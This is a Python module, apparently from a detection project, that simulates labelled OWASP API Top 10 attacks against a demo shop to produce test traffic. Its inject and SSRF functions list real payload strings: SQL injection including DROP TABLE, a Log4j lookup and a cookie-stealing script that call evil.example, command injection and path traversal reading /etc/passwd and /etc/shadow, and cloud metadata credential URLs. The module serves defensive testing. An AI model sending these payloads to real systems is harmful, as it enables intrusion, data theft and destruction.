"""Attacks on the shop, after the OWASP API Security Top 10 (2023), with labels.

An attacker uses an account of the shop, or a guest's browser, so that nothing but what they do
tells them from others. What is hard-coded in an attack (addresses of metadata services, strings of
an injection) are the ordinary ones of the field; each incident draws a few of them.
"""

from __future__ import annotations

import math
import random
from collections.abc import Callable, Iterator, Sequence
from typing import Any, NamedTuple

from regard.watch.demo.people import (
    COUNTRIES,
    HABITS,
    HOUR,
    Person,
    Step,
    Visit,
    random_address,
)
from regard.watch.demo.shop import SPECIAL_OFFER, Client, Shop


class Label(NamedTuple):
    """The truth about an event of an attack.

    Attributes:
        kind: A key of `ATTACKS`.
        incident: Number of the incident; one incident may have many events.
    """

    kind: str
    incident: int


class Attack(NamedTuple):
    """A kind of attack.

    Attributes:
        steps: Generator of its steps.
        owasp: What the OWASP list calls it.
    """

    steps: Callable[[Shop, random.Random, Sequence[Person]], Iterator[Step]]
    owasp: str


def signed_in(shop: Shop, rng: random.Random, people: Sequence[Person]) -> tuple[Person, Client]:
    """A customer who attacks, with the client that they always use."""
    person = rng.choice([each for each in people if each.session is not None] or list(people))
    client = person.client(shop)
    client.session = person.session or f"{rng.getrandbits(64):016x}"
    return person, client


def guest(shop: Shop, rng: random.Random) -> Client:
    """A browser without an account."""
    country = rng.choices(list(COUNTRIES), [each[0] for each in COUNTRIES.values()])[0]
    client = Person("", 0, HABITS["browser"], random.Random(rng.random()), country).client(shop)
    client.user = client.address
    return client


def walk_object_ids(shop: Shop, rng: random.Random, people: Sequence[Person]) -> Iterator[Step]:
    """Reads orders of others by counting their numbers."""
    _, client = signed_in(shop, rng, people)
    number, step = shop.next_order - rng.randrange(200, 600), rng.choice((1, 1, -1, 2))
    suffix, route = rng.choice((("", "order"), ("/invoice", "invoice")))
    for _ in range(rng.randrange(25, 90)):
        status = 200 if number in shop.totals else 404
        yield shop.request(
            client, "GET", f"/v2/orders/{number}{suffix}", route=route, status=status
        )
        number += step
        yield shop.now + rng.uniform(0.4, 4)


def stuff_credentials(shop: Shop, rng: random.Random, people: Sequence[Person]) -> Iterator[Step]:
    """Tries pairs of addresses and passwords from leaks; a few are right."""
    clients = [guest(shop, rng) for _ in range(rng.choice((1, 2, 4)))]
    for _ in range(rng.randrange(60, 160)):
        victim = rng.choice(people)
        known = rng.random() < 0.4
        email = (
            victim.email if known else f"{victim.name[1].lower()}{rng.randrange(999)}@web.example"
        )
        body = {"email": email.replace(" ", ""), "password": "[removed]"}
        status = 200 if known and rng.random() < 0.05 else 401
        client = rng.choice(clients)
        yield shop.request(client, "POST", "/v2/login", route="login", body=body, status=status)
        yield shop.now + rng.uniform(0.3, 3)


def assign_properties(shop: Shop, rng: random.Random, people: Sequence[Person]) -> Iterator[Step]:
    """Adds properties to a body that the form does not have."""
    person, client = signed_in(shop, rng, people)
    added: tuple[str, Any] = rng.choice(
        (("role", "admin"), ("verified", True), ("credit", 500), ("customer_group", "staff"))
    )
    yield shop.request(client, "GET", "/v2/users/me")
    yield shop.now + 20
    body: dict[str, Any] = {"first_name": person.name[0], "last_name": person.name[1]}
    if rng.random() < 0.4:
        body = {"product": rng.choice(shop.products).id, "quantity": 1, "unit_price": 0.01}
        yield shop.request(client, "POST", "/v2/basket/items", body=body, status=201)
    else:
        yield shop.request(client, "PATCH", "/v2/users/me", body=body | dict([added]))


def consume_resources(shop: Shop, rng: random.Random, people: Sequence[Person]) -> Iterator[Step]:
    """Asks for pages so large that the answer is expensive."""
    _, client = signed_in(shop, rng, people)
    for _ in range(rng.randrange(3, 9)):
        limit = rng.choice((5000, 10000, 50000, 100000))
        if rng.random() < 0.5:
            query = {"category": rng.choice(list(shop.by_category)), "page": 1, "limit": limit}
            path, route = "/v2/products", "products"
        else:
            query, path, route = {"q": rng.choice("aeiou"), "limit": limit}, "/v2/search", "search"
        yield shop.request(client, "GET", path, route=route, query=query, rows=len(shop.products))
        yield shop.now + rng.uniform(1, 8)


def call_admin_functions(
    shop: Shop, rng: random.Random, people: Sequence[Person]
) -> Iterator[Step]:
    """A customer calls functions of the staff."""
    person, client = signed_in(shop, rng, people)
    for _ in range(rng.randrange(2, 6)):
        status, action = rng.choice((200, 200, 403)), rng.randrange(4)
        if action == 0:
            query = {"email": rng.choice(people).email, "limit": 20}
            yield shop.request(client, "GET", "/v2/admin/users", query=query, status=status)
        elif action == 1:
            path = f"/v2/admin/users/{rng.choice(people).id}"
            yield shop.request(client, "GET", path, status=status)
        elif action == 2:
            body: dict[str, Any] = {"status": "returned"}
            path = f"/v2/admin/orders/{shop.next_order - rng.randrange(60)}"
            yield shop.request(client, "PATCH", path, body=body, status=status)
        else:
            number = rng.choice(shop.orders.get(person.id) or [shop.next_order])
            body = {"order": number, "amount": round(rng.uniform(20, 90), 2), "reason": "late"}
            yield shop.request(client, "POST", "/v2/admin/refunds", body=body, status=status)
        yield shop.now + rng.uniform(3, 20)


def scrape_catalogue(shop: Shop, rng: random.Random, people: Sequence[Person]) -> Iterator[Step]:
    """Copies the catalogue product by product, or buys up what is in short supply."""
    _, client = signed_in(shop, rng, people)
    if rng.random() < 0.5:
        first = rng.randrange(len(shop.products) // 2)
        for product in shop.products[first : first + rng.randrange(80, 200)]:
            yield shop.request(client, "GET", f"/v2/products/{product.id}", route="product")
            yield shop.now + rng.uniform(0.8, 1.6)
        return
    for _ in range(rng.randrange(12, 30)):
        body: dict[str, Any] = {"product": SPECIAL_OFFER, "quantity": 3}
        yield shop.request(client, "POST", "/v2/basket/items", body=body, status=201)
        yield shop.now + rng.uniform(0.5, 1.5)
        body = {"address": rng.randrange(20000, 90000), "shipping": "express"}
        yield shop.request(client, "POST", "/v2/checkout", route="checkout", body=body, status=201)
        yield shop.now + rng.uniform(0.5, 1.5)


def request_internal_urls(
    shop: Shop, rng: random.Random, people: Sequence[Person]
) -> Iterator[Step]:
    """Makes the server fetch addresses of its own network (SSRF)."""
    _, client = signed_in(shop, rng, people)
    targets = [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        f"http://10.0.0.{rng.randrange(1, 255)}:8080/",
        "http://localhost:6379/",
        "file:///etc/passwd",
        f"https://{rng.getrandbits(40):010x}.oast.example/",
    ]
    for url in rng.sample(targets, rng.choice((1, 2, 3))):
        status = rng.choice((200, 422, 504))
        yield shop.request(client, "POST", "/v2/users/me/avatar", body={"url": url}, status=status)
        yield shop.now + rng.uniform(4, 30)


def probe_configuration(shop: Shop, rng: random.Random, people: Sequence[Person]) -> Iterator[Step]:
    """Looks for files and settings that should not be public."""
    client = guest(shop, rng)
    probes = [
        ("GET", "/.env"),
        ("GET", "/.git/config"),
        ("GET", "/actuator/env"),
        ("GET", "/v2/swagger.json"),
        ("GET", "/server-status"),
        ("TRACE", "/v2/products"),
        ("GET", "/debug/pprof/"),
        ("OPTIONS", "/v2/users/me"),
    ]
    for method, path in rng.sample(probes, rng.randrange(2, 7)):
        yield shop.request(client, method, path, status=404 if method == "GET" else 405)
        yield shop.now + rng.uniform(0.3, 5)


def call_old_version(shop: Shop, rng: random.Random, people: Sequence[Person]) -> Iterator[Step]:
    """Calls functions of version 1, which lacks checks and should be switched off."""
    person, client = signed_in(shop, rng, people)
    for _ in range(rng.randrange(2, 8)):
        path, route = rng.choice(
            (
                (f"/v1/users/{rng.choice(people).id}", ""),
                (f"/v1/orders/{shop.next_order - rng.randrange(300)}", "order"),
                (f"/v1/users/{person.id}/export", ""),
            )
        )
        yield shop.request(client, "GET", path, route=route)
        yield shop.now + rng.uniform(2, 20)


def inject(shop: Shop, rng: random.Random, people: Sequence[Person]) -> Iterator[Step]:
    """Puts code into values: SQL, templates, scripts, commands, paths."""
    person, client = signed_in(shop, rng, people)
    payloads = (
        "lamp' OR '1'='1",
        "x'; DROP TABLE orders--",
        "1 UNION SELECT email, hash FROM users",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "<script>fetch('//evil.example?'+document.cookie)</script>",
        "; cat /etc/passwd",
        "../../../../etc/shadow",
    )
    for payload in rng.sample(payloads, rng.randrange(1, 5)):
        where = rng.randrange(3)
        if where == 0:
            query = {"q": payload, "limit": person.page_size}
            yield shop.request(client, "GET", "/v2/search", route="search", query=query, rows=0)
        elif where == 1:
            path = f"/v2/products/{rng.choice(shop.products).id}/reviews"
            body: dict[str, Any] = {"stars": 5, "text": payload}
            yield shop.request(client, "POST", path, body=body, status=201)
        else:
            query = {"category": payload, "page": 1, "limit": person.page_size}
            status = rng.choice((200, 500))
            yield shop.request(
                client, "GET", "/v2/products", route="products", query=query, status=status
            )
        yield shop.now + rng.uniform(3, 25)


def use_stolen_token(shop: Shop, rng: random.Random, people: Sequence[Person]) -> Iterator[Step]:
    """The token of a customer is used from another country; all else is as usual."""
    person, client = signed_in(shop, rng, people)
    client.country = rng.choice([each for each in COUNTRIES if each != client.country])
    client.address = random_address(rng, client.country)
    visit = Visit(shop, person, client)
    for _ in range(rng.randrange(4, 10)):
        yield from rng.choice((visit.orders, visit.order, visit.listing, visit.product))()
        yield visit.pause(7)


def replay_session(shop: Shop, rng: random.Random, people: Sequence[Person]) -> Iterator[Step]:
    """A stranger goes on with the session of a customer, with other habits and another browser."""
    victim, _ = signed_in(shop, rng, people)
    thief = rng.choice([each for each in people if each.habit is not victim.habit] or people)
    client = guest(shop, rng)
    client.user, client.session, client.country = victim.id, victim.session, victim.country
    client.address = random_address(rng, victim.country)
    visit = Visit(shop, victim, client)
    for action in (visit.orders, visit.order, visit.invoice):
        yield from action()
        yield visit.pause(6)
    path = "/v2/users/me"
    yield shop.request(client, "GET", path)
    yield shop.now + 20
    body = {"first_name": thief.name[0], "last_name": thief.name[1]}
    yield shop.request(client, "PATCH", path, body=body)


def change_order(shop: Shop, rng: random.Random, people: Sequence[Person]) -> Iterator[Step]:
    """Confirms orders without paying, or adds to the basket after paying: each step is usual."""
    person, client = signed_in(shop, rng, people)
    visit = Visit(shop, person, client)
    skip_payment = rng.random() < 0.6
    for _ in range(rng.choice((1, 2, 3))):
        product = shop.pick_product(rng, visit.category())
        item: dict[str, Any] = {"product": product.id, "quantity": 1}
        if skip_payment:
            yield shop.request(client, "POST", "/v2/basket/items", body=item, status=201)
            yield visit.pause(8)
        body: dict[str, Any] = {"address": person.address_id, "shipping": person.shipping}
        order = shop.place_order(person.id, shop.price(product))
        yield shop.request(client, "POST", "/v2/checkout", route="checkout", body=body, status=201)
        yield visit.pause(20)
        if not skip_payment:
            payment = {
                "order": order,
                "method": person.payment,
                "amount": round(shop.price(product), 2),
                "currency": "EUR",
            }
            yield shop.request(client, "POST", "/v2/payments", route="payments", body=payment)
            yield visit.pause(5)
            yield shop.request(client, "POST", "/v2/basket/items", body=item, status=201)
            yield visit.pause(5)
        path = f"/v2/orders/{order}/confirm"
        yield shop.request(client, "POST", path, body={"accept_terms": True})
        yield visit.pause(15)


ATTACKS = {
    "object_authorization": Attack(walk_object_ids, "API1 broken object level authorization"),
    "credential_stuffing": Attack(stuff_credentials, "API2 broken authentication"),
    "stolen_token": Attack(use_stolen_token, "API2 token from another country"),
    "replayed_session": Attack(replay_session, "API2 session of another user"),
    "mass_assignment": Attack(assign_properties, "API3 object property level authorization"),
    "resource_consumption": Attack(consume_resources, "API4 unrestricted resource consumption"),
    "function_authorization": Attack(
        call_admin_functions, "API5 broken function level authorization"
    ),
    "scraping": Attack(scrape_catalogue, "API6 access to sensitive business flows"),
    "changed_order": Attack(change_order, "API6 steps of a flow left out"),
    "ssrf": Attack(request_internal_urls, "API7 server side request forgery"),
    "misconfiguration": Attack(probe_configuration, "API8 security misconfiguration"),
    "old_version": Attack(call_old_version, "API9 improper inventory management"),
    "injection": Attack(inject, "API10 injection in values"),
}


def attack_times(rng: random.Random, first: float, last: float, a_day: float) -> list[float]:
    """When the incidents of one kind begin: one in each equal part of the time."""
    count = max(1, math.floor((last - first) / (24 * HOUR) * a_day))
    width = (last - first) / count
    # incidents end before their part does
    return [first + width * (i + 0.85 * rng.random()) for i in range(count)]
